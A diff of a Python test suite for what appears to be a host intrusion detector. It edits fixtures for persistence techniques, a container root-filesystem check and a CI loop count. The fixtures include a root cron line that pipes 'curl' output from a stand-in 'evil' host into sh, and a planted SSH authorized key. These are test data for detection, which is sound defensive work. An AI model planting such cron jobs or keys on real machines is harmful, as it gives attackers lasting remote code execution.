@@ -448,8 +448,6 @@ def kept(its: Watched) -> Persistence:
     [
         ("/etc/cron.d/evil", "* * * * * root curl -s http://evil/x | sh", "T1053.003"),
         ("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3 evil", "T1098.004"),
-        ("/etc/systemd/system/evil.service", "[Service]", "T1543.002"),
-        ("/etc/profile.d/evil.sh", "true", "T1546.004"),
     ],
 )
 def test_a_file_that_keeps_somebody_in_is_found_when_it_is_made(
@@ -514,7 +512,7 @@ def test_processes_of_containers_in_the_hosts_namespaces_are_told_and_no_others(
 def test_the_hosts_root_in_a_container_is_found(its: Watched) -> None:
     with in_a_box(its, "sleep 2995") as process:
         finding = its.sees(BOXES, lambda one: "root file system" in one.claim)
-        assert "rootfs" in its.guest.run(f"cat /proc/{process.pid}/mounts").decode()
+        assert b"rootfs / rootfs " in its.guest.run(f"cat /proc/{process.pid}/mounts")
     assert finding.claim.startswith(f"process {process.pid} (sleep) of the docker container 4711")
     assert (finding.evidence[1].facts["path"], finding.evidence[1].facts["root"]) == ("/", "/")
 
@@ -549,7 +547,7 @@ def packs() -> list[Codepack]:
 def test_in_a_storm_of_forks_nothing_is_believed_that_is_not_so_at_rest(
     its: Watched, proof_count: Callable[[int], None]
 ) -> None:
-    rounds = proof_size(ci=40, full=2000)
+    rounds = proof_size(ci=20, full=2000)
     watching = [(pack, Confirmation()) for pack in (*packs(), Persistence())]
     at_rest = {pack.name: set(its.look(pack)) for pack, _ in watching}
     its.guest.start_storm()
